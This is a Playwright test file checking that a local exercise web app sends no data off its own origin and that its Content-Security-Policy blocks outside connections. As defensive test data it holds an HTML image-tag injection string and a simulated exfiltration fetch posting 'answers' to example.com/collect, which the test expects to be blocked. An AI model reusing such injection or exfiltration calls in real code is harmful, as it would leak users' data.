// The app sends nothing anywhere, and the page says so in its Content-Security-Policy.
import { test, expect } from "@playwright/test";
import { readFile } from "node:fs/promises";

test("a full session makes no request outside the app's own origin, and the CSP blocks any", async ({ context, baseURL }) => {
  const APP_ORIGIN = new URL(baseURL).origin;
  const requests = [];
  context.on("request", (request) => requests.push(request.url()));
  await context.addInitScript(() => {
    window.__violations = [];
    document.addEventListener("securitypolicyviolation", (e) => window.__violations.push(`${e.violatedDirective} ${e.blockedURI}`));
  });
  const page = await context.newPage();
  await page.goto("./");
  const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute("content");
  expect(policy).toContain("default-src 'none'");
  expect(policy).toContain("connect-src 'self'");
  expect(policy).not.toContain("unsafe-inline");

  // Everything a participant does in a session.
  await page.getByRole("navigation", { name: "Main" }).getByRole("link", { name: "Profile" }).click();
  await page.getByRole("textbox", { name: "Your name", exact: true }).fill("Ada Lovelace");
  await page.getByRole("navigation", { name: "Main" }).getByRole("link", { name: "Exercises" }).click();
  await page.getByRole("region", { name: "Module 6: Production Deployment & Operations" }).getByRole("link", { name: "Exercise 2.1 · Deployment Strategy" }).click();
  const pane = page.locator(".section-pane");
  await pane.getByRole("textbox", { name: "Client / scenario summary", exact: true }).fill("<img src=https://example.com/x.png>");
  await page.getByRole("button", { name: /^3\. Auto-scaling/ }).click();
  await pane.getByRole("textbox", { name: "Health probe", exact: true }).fill("GET /health");
  const [exported] = await Promise.all([page.waitForEvent("download"), page.getByRole("button", { name: "Export deployment-strategy.md" }).click()]);
  await Promise.all([page.waitForEvent("download"), page.getByRole("contentinfo").getByRole("button", { name: "Download a full backup" }).click()]);
  await page.getByRole("link", { name: "Restore a backup or import a file" }).click();
  await page.getByLabel("Backup or exported deliverable").setInputFiles({ name: "deployment-strategy.md", mimeType: "text/markdown", buffer: await readFile(await exported.path()) });
  await expect(page.getByText("It matches your current work")).toBeVisible();
  await page.reload();
  await expect(page.getByRole("heading", { level: 1 })).toBeVisible();

  const outside = requests.filter((url) => !url.startsWith(`${APP_ORIGIN}/`) && !url.startsWith("blob:") && !url.startsWith("data:"));
  expect(outside).toEqual([]);
  expect(requests.length).toBeGreaterThan(3);
  expect(await page.evaluate(() => window.__violations)).toEqual([]);

  // Even code running in the page cannot send the answers elsewhere.
  const attempt = await page.evaluate(() => fetch("https://example.com/collect", { method: "POST", body: "answers" }).then(() => "sent", () => "blocked"));
  expect(attempt).toBe("blocked");
  // The violation event is queued apart from the fetch's rejection: wait for it.
  await expect.poll(() => page.evaluate(() => window.__violations)).toEqual(["connect-src https://example.com/collect"]);
});
